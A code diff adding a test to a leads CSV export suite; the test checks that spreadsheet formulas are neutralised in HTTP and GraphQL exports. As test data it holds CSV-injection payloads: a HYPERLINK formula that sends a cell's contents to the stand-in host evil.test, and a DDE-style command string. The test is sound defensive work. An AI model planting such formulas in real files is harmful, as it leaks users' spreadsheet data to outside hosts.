@@ -126,4 +126,18 @@ describe('CSV export', () => {
     const badStatus = await fetch(`${app.url}/api/leads/export.csv?status=NOPE`, { headers: authHeaders(account.caller) });
     expect(badStatus.status).toBe(400);
   });
+
+  it('defuses formulas a lead brought in (CSV injection), over HTTP and GraphQL; phone numbers stay numbers', async () => {
+    const account = await signup(app);
+    await createLead(app, account.caller, { businessName: '=HYPERLINK("http://evil.test/?leak="&A1,"Open")', contactName: '@SUM(1+1)*cmd|x', phone: '+919876543210', city: 'Pune' });
+    const http = await (await fetch(`${app.url}/api/leads/export.csv?city=Pune`, { headers: authHeaders(account.caller) })).text();
+    const graphql = (await app.gql('{ exportLeadsCsv(filter: { city: "Pune" }) }', {}, account.caller)).data?.exportLeadsCsv as string;
+    for (const csv of [http, graphql]) {
+      const row = csv.trim().split('\n')[1];
+      expect(row).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Open"")"`);
+      expect(row).toContain("'@SUM(1+1)*cmd|x");
+      expect(row).toContain(',+919876543210,');
+      expect(row).not.toMatch(/,[=@]/);
+    }
+  });
 });
